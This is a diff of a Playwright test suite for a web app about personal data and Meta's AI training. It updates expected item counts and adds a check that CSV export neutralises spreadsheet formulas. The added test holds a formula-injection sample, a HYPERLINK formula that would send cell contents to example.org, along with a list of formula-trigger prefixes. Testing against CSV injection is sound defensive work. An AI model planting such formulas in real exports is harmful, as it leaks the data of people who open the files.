@@ -31,9 +31,9 @@ def search(page: Page, text: str) -> None:
 
 @ONLY_ENGLISH
 def test_all_items_are_there_and_only_some_are_drawn(visit: Visit) -> None:
-    assert visit.page.inner_text(".hits") == "53 items"
+    assert visit.page.inner_text(".hits") == "55 items"
     assert visit.page.locator(".row").count() < 40
-    assert visit.page.locator(".row").first.get_attribute("aria-setsize") == "53"
+    assert visit.page.locator(".row").first.get_attribute("aria-setsize") == "55"
 
 
 @ONLY_ENGLISH
@@ -50,7 +50,7 @@ def test_all_items_are_there_and_only_some_are_drawn(visit: Visit) -> None:
 def test_search_finds_words_names_and_places_without_accents(visit: Visit, query: str, found: list[str]) -> None:
     search(visit.page, query)
     assert rows(visit.page) == found
-    assert visit.page.inner_text(".hits") == f"{len(found)} of 53 items"
+    assert visit.page.inner_text(".hits") == f"{len(found)} of 55 items"
     assert visit.page.locator(".rows").is_visible() == bool(found)
 
 
@@ -61,14 +61,14 @@ def test_a_longer_query_narrows_and_a_shorter_one_widens(visit: Visit) -> None:
         search(visit.page, query)
         counts.append(int(visit.page.inner_text(".hits").split()[0]))
     assert counts[0] >= counts[1] >= counts[2] == counts[4] >= counts[3] > 0
-    assert counts[5] == 53
+    assert counts[5] == 55
 
 
 @ONLY_ENGLISH
 def test_filters_and_order(visit: Visit) -> None:
     page = visit.page
     page.select_option("#filter-kind", "stories")
-    assert page.inner_text(".hits") == "2 of 53 items"
+    assert page.inner_text(".hits") == "2 of 55 items"
     page.select_option("#filter-verdict", "in")
     assert rows(page) == ["Longest day"]
     page.click(".clear")
@@ -150,14 +150,22 @@ def test_the_choice_is_saved_as_csv_without_formulas(visit: Visit) -> None:
     assert len(table) == 6
     assert {row["Platform"] for row in table} == {"Facebook", "Instagram"}
     assert all(row["Why"] and row["File"].endswith(".json") and row["Date"].endswith("Z") for row in table)
+    page.click(".clear")
+    with page.expect_download() as download:
+        page.click(".save")
+    whole = Path(str(download.value.path())).read_text("utf-8-sig")
+    table = list(csv.DictReader(io.StringIO(whole, newline="")))
+    assert len(table) == 55
+    assert not [cell for row in table for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]
+    assert "'=HYPERLINK('https://example.org/?'&A1)" in [row["Text"] for row in table]
 
 
 def test_the_language_changes_and_the_choice_stays(visit: Visit) -> None:
     page = visit.page
     assert page.locator(".speak button[aria-pressed=true]").get_attribute("lang") == page.get_attribute("html", "lang")
     search(page, "bread")
-    for lang, title, hits, kind in (("fr", "Vos données et l’entraînement des IA de Meta", "2 sur 53 éléments", "avis"),
-                                    ("en", "Your data and Meta’s AI training", "2 of 53 items", "review")):  # fmt: skip
+    for lang, title, hits, kind in (("fr", "Vos données et l’entraînement des IA de Meta", "2 sur 55 éléments", "avis"),
+                                    ("en", "Your data and Meta’s AI training", "2 of 55 items", "review")):  # fmt: skip
         page.click(f".speak button[lang={lang}]")
         assert page.title() == page.inner_text("h1") == title
         assert page.inner_text(".hits") == hits
